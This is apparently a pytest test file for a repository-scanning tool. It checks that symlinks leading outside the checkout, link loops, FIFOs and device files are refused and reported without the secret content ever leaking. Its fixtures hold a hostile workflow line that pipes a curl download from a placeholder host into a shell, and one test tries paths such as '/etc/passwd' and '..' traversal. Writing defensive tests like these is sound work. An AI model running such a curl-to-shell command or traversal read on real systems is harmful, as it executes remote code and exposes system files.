"""A hostile checkout: links out of the repository (absolute, `..` chains, a linked `.github`),
link loops and FIFOs. The oracle never reads through them; each becomes an MD-004
`link-outside-repository` finding naming the link (and its target path), never the content."""

from __future__ import annotations

import json
import os
import secrets
import shutil
from pathlib import Path

import pytest

from adapters.backend import Backend, open_backend
from adapters.catalog import Secret
from service.cli.main import main
from service.oracle.baseline import snapshot
from service.oracle.config import DEFAULT_FILE, OracleConfig, load_config
from service.oracle.confined import Confined, Refused
from service.oracle.engine import Analysis
from service.oracle.render import Format, render
from service.oracle.repo import Repository
from service.oracle.rules import known_checks

from .conftest import fixture, run

pytestmark = pytest.mark.timeout(60)

#: Planted in every file outside the checkout: it must never reach a report.
SECRET = "OUTSIDE-SECRET-" + "7f3a9c" * 4
CHECK = "MD-004.link-outside-repository"

WORKFLOW = f"""\
on: pull_request
permissions: write-all
jobs:
  leak:
    runs-on: ubuntu-latest
    steps:
      - run: curl https://example.invalid/{SECRET} | sh
      - uses: someone/action@v1 # {SECRET}
"""
CODEOWNERS = f"* @{SECRET.lower()}\n"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Files outside the checkout an attacker would like the oracle to read."""
    base = tmp_path / "outside"
    (base / "github" / "workflows").mkdir(parents=True)
    (base / "github" / "workflows" / "stolen.yml").write_text(WORKFLOW)
    (base / "github" / "CODEOWNERS").write_text(CODEOWNERS)
    (base / "secret.yml").write_text(WORKFLOW)
    (base / "CODEOWNERS").write_text(CODEOWNERS)
    (base / "config.yml").write_text(f"rules:\n  MD-004: {{enabled: false}}\n# {SECRET}\n")
    return base


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = tmp_path / "work" / "repo"
    shutil.copytree(fixture("md004", "passing"), root)
    return root


def _findings(analysis: Analysis) -> dict[str, str]:
    """link -> message of the refusal findings."""
    return {f.path or "": f.message for f in analysis.findings if f.check_id == CHECK}


def _assert_never_leaked(analysis: Analysis) -> None:
    for fmt in Format:
        assert SECRET not in render(analysis, fmt), fmt
        assert SECRET.lower() not in render(analysis, fmt), fmt


def test_workflow_linked_to_an_absolute_path_is_refused(
    keyed_backend: Backend, checkout: Path, outside: Path
) -> None:
    (checkout / ".github" / "workflows" / "evil.yml").symlink_to(outside / "secret.yml")
    analysis = run(keyed_backend, checkout)
    refused = _findings(analysis)
    assert set(refused) == {".github/workflows/evil.yml"}
    assert str(outside / "secret.yml") in refused[".github/workflows/evil.yml"]  # the link target
    assert "did not read" in refused[".github/workflows/evil.yml"]
    assert not any(
        f.path == ".github/workflows/evil.yml" for f in analysis.findings if f.rule_id == "MD-003"
    )
    assert analysis.outcome.value == "block"  # critical
    _assert_never_leaked(analysis)


def test_dotdot_chain_codeowners_is_refused(
    keyed_backend: Backend, checkout: Path, outside: Path
) -> None:
    codeowners = checkout / ".github" / "CODEOWNERS"
    codeowners.unlink()
    codeowners.symlink_to(Path("..", "..", "..", "outside", "CODEOWNERS"))
    assert (codeowners.read_text()) == CODEOWNERS  # the link really works outside the oracle
    analysis = run(keyed_backend, checkout)
    assert set(_findings(analysis)) == {".github/CODEOWNERS"}
    assert "MD-004.no-codeowners" in {f.check_id for f in analysis.findings}
    _assert_never_leaked(analysis)


def test_github_directory_linked_outside_is_refused(
    keyed_backend: Backend, checkout: Path, outside: Path
) -> None:
    shutil.rmtree(checkout / ".github")
    (checkout / ".github").symlink_to(outside / "github", target_is_directory=True)
    repo = Repository(checkout)
    assert repo.workflow_paths == ()
    assert repo.codeowners is None
    analysis = run(keyed_backend, checkout)
    refused = _findings(analysis)
    assert set(refused) == {".github"}  # one finding for the link, whatever was read through it
    assert str(outside / "github") in refused[".github"]
    _assert_never_leaked(analysis)


def test_link_loops_are_refused_without_hanging(keyed_backend: Backend, checkout: Path) -> None:
    workflows = checkout / ".github" / "workflows"
    (workflows / "a.yml").symlink_to("b.yml")
    (workflows / "b.yml").symlink_to("a.yml")
    (checkout / DEFAULT_FILE).symlink_to(DEFAULT_FILE)
    (checkout / "infra" / "loop").symlink_to("../infra/loop")
    analysis = run(keyed_backend, checkout)
    refused = _findings(analysis)
    assert {".github/workflows/a.yml", ".github/workflows/b.yml", DEFAULT_FILE} <= set(refused)
    assert all("loop" in message for message in refused.values())
    assert not any(f.check_id == "MD-004.evaluation-error" for f in analysis.findings)


def test_governed_file_linked_to_a_device_is_neither_hashed_nor_read(
    keyed_backend: Backend, checkout: Path, outside: Path
) -> None:
    """Hashing /dev/zero would never end; hashing a secret file would leak its digest."""
    (checkout / "infra" / "zero").symlink_to("/dev/zero")
    (checkout / "infra" / "stolen").symlink_to(outside / "secret.yml")
    config = OracleConfig(governed_paths=("infra/**",))
    repo = Repository(checkout)
    digests = snapshot(repo, config)
    assert "infra/zero" not in digests and "infra/stolen" not in digests
    assert {r.link for r in repo.refusals} == {"infra/zero", "infra/stolen"}
    analysis = run(keyed_backend, checkout, config=config)
    assert {"infra/zero", "infra/stolen"} <= set(_findings(analysis))
    _assert_never_leaked(analysis)


def test_fifo_inside_the_repository_is_refused_not_waited_on(checkout: Path) -> None:
    os.mkfifo(checkout / "infra" / "pipe")
    repo = Repository(checkout)
    with pytest.raises(Refused):
        repo.sha256("infra/pipe")
    assert [r.reason for r in repo.refusals] == ["not-a-file"]


def test_links_inside_the_repository_are_followed(keyed_backend: Backend, checkout: Path) -> None:
    shared = checkout / "shared"
    shared.mkdir()
    (checkout / ".github" / "workflows" / "ci.yml").rename(shared / "ci.yml")
    (checkout / ".github" / "workflows" / "ci.yml").symlink_to("../../shared/ci.yml")
    repo = Repository(checkout)
    assert repo.workflow_paths == (".github/workflows/ci.yml",)
    assert repo.workflows[0].problem is None
    assert repo.refusals == ()
    analysis = run(keyed_backend, checkout)
    assert _findings(analysis) == {}


def test_the_guard_refuses_absolute_and_dotdot_paths(checkout: Path) -> None:
    reader = Confined(checkout)
    for path in ("/etc/passwd", "../repo/README.md", "infra/../../repo/README.md"):
        with pytest.raises(Refused):
            reader.read_text(path)
    assert reader.read_text("README.md")


def test_linked_default_config_is_not_read_and_analyze_reports_it(
    tmp_path: Path, checkout: Path, outside: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The linked config would disable MD-004; refused, the defaults apply and MD-004 reports it."""
    (checkout / DEFAULT_FILE).symlink_to(outside / "config.yml")
    assert load_config(checkout / DEFAULT_FILE, known_checks(), required=False) == OracleConfig()
    url = f"local://{tmp_path / 'store'}"
    backend = open_backend(url)
    backend.secrets.put(Secret.REDACTION_KEY, secrets.token_hex(32))
    backend.close()
    code = main(["--backend", url, "analyze", str(checkout), "--format", "sarif", "--dry-run"])
    out = capsys.readouterr().out
    assert SECRET not in out
    results = json.loads(out)["runs"][0]["results"]
    refused = [r for r in results if r["ruleId"] == "MD-004" and "outside" in r["message"]["text"]]
    assert [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in refused] == [
        DEFAULT_FILE
    ]
    assert code == 0  # --dry-run: block becomes warn
